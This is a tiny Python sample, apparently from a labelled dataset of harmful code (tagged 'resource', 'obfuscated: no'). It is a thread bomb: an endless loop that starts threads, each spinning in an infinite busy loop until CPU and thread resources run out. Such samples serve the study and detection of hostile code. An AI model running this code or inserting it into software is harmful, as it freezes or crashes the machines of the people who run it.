# category: resource
# obfuscated: no
import threading

def spin():
    while True:
        pass

while True:
    threading.Thread(target=spin).start()
